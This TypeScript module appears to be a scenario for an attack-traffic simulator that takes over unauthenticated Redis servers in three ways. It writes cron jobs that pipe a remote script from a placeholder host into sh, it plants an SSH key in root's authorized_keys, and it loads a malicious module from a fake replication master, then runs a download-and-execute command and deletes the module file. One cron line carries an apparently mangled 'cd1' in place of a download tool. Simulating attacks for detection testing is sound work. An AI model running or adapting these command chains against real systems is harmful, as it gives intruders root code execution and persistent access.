import { RedisClient } from '../clients/redis.ts';
import { crowd, defineScenario } from '../scenario.ts';

interface Way {
  name: string;
  commands: string[][];
}

/** A database that writes where it is told, and loads what it is given. Addresses of RFC 5737: nobody has them. */
const ways: Way[] = [
  {
    name: 'a job for cron',
    commands: [
      ['INFO'],
      ['CONFIG', 'SET', 'dbfilename', 'backup.db'],
      ['SAVE'],
      ['CONFIG', 'SET', 'stop-writes-on-bgsave-error', 'no'],
      ['FLUSHALL'],
      ['SET', 'backup1', '\n\n\n*/2 * * * * root cd1 -fsSL http://192.0.2.66/b.sh | sh\n\n'],
      ['SET', 'backup2', '\n\n\n*/3 * * * * root wget -q -O- http://192.0.2.66/b.sh | sh\n\n'],
      ['CONFIG', 'SET', 'dir', '/var/spool/cron/'],
      ['CONFIG', 'SET', 'dbfilename', 'root'],
      ['SAVE'],
      ['CONFIG', 'SET', 'dir', '/etc/cron.d/'],
      ['CONFIG', 'SET', 'dbfilename', 'zzh'],
      ['SAVE'],
    ],
  },
  {
    name: 'a key for SSH',
    commands: [
      ['INFO', 'server'],
      ['FLUSHALL'],
      [
        'SET',
        'crackit',
        '\n\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC0placeholder0key0without0owner root@example\n\n\n',
      ],
      ['CONFIG', 'SET', 'dir', '/root/.ssh'],
      ['CONFIG', 'SET', 'dbfilename', 'authorized_keys'],
      ['SAVE'],
    ],
  },
  {
    name: 'a module from a false master',
    commands: [
      ['INFO', 'replication'],
      ['CONFIG', 'SET', 'dir', '/tmp'],
      ['CONFIG', 'SET', 'dbfilename', 'exp.so'],
      ['SLAVEOF', '203.0.113.9', '60101'],
      ['MODULE', 'LOAD', '/tmp/exp.so'],
      ['SLAVEOF', 'NO', 'ONE'],
      ['system.exec', 'wget -q -O - http://203.0.113.9/m.sh | sh'],
      ['system.exec', 'rm -rf /tmp/exp.so'],
      ['MODULE', 'UNLOAD', 'system'],
    ],
  },
];

/** Redis takeovers: through what the database may write, and through what it may load. */
export const redisTakeover = defineScenario({
  name: 'redis-takeover',
  summary: 'open Redis made to write a job, a key, or to load a module',
  needs: ['redis'],
  count: 3,
  async run(ground) {
    await crowd(ground, ground.count, 'redis worm', async (source, index) => {
      const connection = await source.dial('redis');
      if (!connection) return;
      const client = new RedisClient(connection);
      const way = ways[index % ways.length]!;
      for (const command of way.commands) if ((await client.command(...command)) === null) break;
      await client.close();
      ground.say(`${source.address} planted ${way.name} through Redis`);
    });
  },
});
